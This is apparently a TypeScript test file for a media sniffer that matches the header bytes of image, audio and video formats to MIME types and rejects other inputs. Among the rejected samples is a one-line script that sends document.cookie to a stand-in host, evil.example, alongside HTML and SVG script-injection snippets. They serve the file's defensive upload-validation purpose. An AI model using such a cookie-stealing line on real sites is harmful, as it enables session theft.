import { describe, expect, it } from 'vitest';
import { SNIFF_BYTES, detectMedia } from './sniff';

const hex = (text: string) =>
  Uint8Array.from(
    text
      .replace(/\s+/g, '')
      .match(/../g)!
      .map((byte) => parseInt(byte, 16)),
  );
const ascii = (text: string) => Uint8Array.from(text, (ch) => ch.charCodeAt(0));
const join = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, part) => n + part.length, 0));
  parts.reduce((at, part) => (out.set(part, at), at + part.length), 0);
  return out;
};
/** An ISO `ftyp` box: size, 'ftyp', major brand, minor version, compatible brands. */
const ftyp = (major: string, ...compatible: string[]) => {
  const size = 16 + 4 * compatible.length;
  return join(Uint8Array.of(0, 0, 0, size), ascii('ftyp'), ascii(major), new Uint8Array(4), ...compatible.map(ascii), ascii('....mdat'));
};
const riff = (form: string) => join(ascii('RIFF'), Uint8Array.of(0x24, 0, 0, 0), ascii(form), ascii('fmt '));

// The first bytes of real files of each kind, as their encoders write them.
const MEDIA: Array<[string, Uint8Array, string]> = [
  ['jpg (JFIF)', hex('ffd8ffe0 00104a46 49460001'), 'image/jpeg'],
  ['jpg (Exif)', hex('ffd8ffe1 1c454578 69660000'), 'image/jpeg'],
  ['png', hex('89504e47 0d0a1a0a 0000000d 49484452'), 'image/png'],
  ['gif', ascii('GIF89a\x01\x00\x01\x00'), 'image/gif'],
  ['bmp', join(ascii('BM'), hex('7a000000 00000000 7a000000 6c000000')), 'image/bmp'],
  ['webp', riff('WEBP'), 'image/webp'],
  ['mp3 with an ID3 tag', join(ascii('ID3'), hex('04000000 0000')), 'audio/mpeg'],
  ['mp3 frame (MPEG-1 layer III, 128 kbit/s, 44.1 kHz)', hex('fffb9064 00000000'), 'audio/mpeg'],
  ['aac (ADTS)', hex('fff15080 2e7ffc21'), 'audio/aac'],
  ['m4a', ftyp('M4A ', 'M4A ', 'mp42', 'isom'), 'audio/mp4'],
  ['ogg', join(ascii('OggS'), hex('00020000 00000000')), 'audio/ogg'],
  ['flac', join(ascii('fLaC'), hex('00000022')), 'audio/flac'],
  ['wav', riff('WAVE'), 'audio/wav'],
  ['amr', ascii('#!AMR\n\x3c'), 'audio/amr'],
  ['amr-wb', ascii('#!AMR-WB\n'), 'audio/amr-wb'],
  ['mp4', ftyp('isom', 'isom', 'iso2', 'avc1', 'mp41'), 'video/mp4'],
  ['mp4 with an unusual major brand and a known compatible one', ftyp('abcd', 'mp42'), 'video/mp4'],
  ['mov', ftyp('qt  ', 'qt  '), 'video/quicktime'],
  ['3gp', ftyp('3gp4', '3gp4', 'isom'), 'video/3gpp'],
  ['webm', join(hex('1a45dfa3 9f 42868101 42f78101 42f28104 42f38108 428284'), ascii('webm'), hex('42878104 42858102')), 'video/webm'],
  ['mkv', join(hex('1a45dfa3 a3 42868101 42f78101 42f28104 42f38108 428288'), ascii('matroska'), hex('42878104 42858102')), 'video/x-matroska'],
  ['avi', riff('AVI '), 'video/x-msvideo'],
];

describe('detectMedia', () => {
  it.each(MEDIA)('knows %s', (_, bytes, mime) => {
    expect(detectMedia(bytes)).toBe(mime);
    // However much of the file the first read brought.
    expect(detectMedia(join(bytes, new Uint8Array(4096)).subarray(0, SNIFF_BYTES))).toBe(mime);
  });

  it.each([
    ['an HTML page', ascii('<!DOCTYPE html><html><script>alert(1)</script>')],
    ['a script', ascii('function steal() { fetch("https://evil.example/?c=" + document.cookie) }')],
    ['a Windows program', join(ascii('MZ'), hex('90000300 00000400 0000ffff 0000b800'))],
    ['an ELF program', join(hex('7f454c46 02010100'), new Uint8Array(8))],
    ['an SVG image (markup that runs scripts)', ascii('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['a PDF', ascii('%PDF-1.7\n%')],
    ['a zip', hex('504b0304 14000000 0800')],
    ['text that starts like a bitmap', ascii('BMW owners club: spring meeting')],
    ['a RIFF file of another form', riff('CDXA')],
    ['a HEIC photo (ISO box of an image brand)', ftyp('heic', 'mif1', 'heic')],
    ['an empty file', new Uint8Array(0)],
    ['zeros', new Uint8Array(64)],
    ['a reserved MPEG audio header', hex('ffe90000')],
  ])('refuses %s', (_, bytes) => {
    expect(detectMedia(bytes)).toBeNull();
  });
});
